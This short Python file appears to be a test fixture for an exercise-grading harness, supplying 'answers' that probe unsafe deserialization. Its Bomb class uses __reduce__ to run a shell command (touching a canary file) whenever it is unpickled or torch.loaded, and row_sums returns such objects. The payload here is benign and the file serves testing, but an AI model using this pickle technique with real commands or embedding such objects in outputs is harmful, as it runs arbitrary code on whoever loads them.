"""Answers with what runs code in whoever unpickles it: an object, its pickle, a file of torch.save."""
# kind: answer
# costs: exercise row_sums
# passes: double shrink

# %%
import io
import os
import pickle

import torch


# %%
class Bomb:
    def __reduce__(self):
        return os.system, ("touch @CANARY@/exploded /tmp/exploded",)


def saved():
    """The bytes of a file that torch.load would open."""
    room = io.BytesIO()
    torch.save(Bomb(), room)
    return room.getvalue()


# %%
def double(x):
    return x + x


# %%
def row_sums(x):
    answers = (Bomb(), pickle.dumps(Bomb()), pickle.dumps(Bomb(), 0).decode(), saved())
    return answers[len(x) % 4]


# %%
def shrink(x, n):
    greatest = x.max().item()
    x /= n
    return greatest
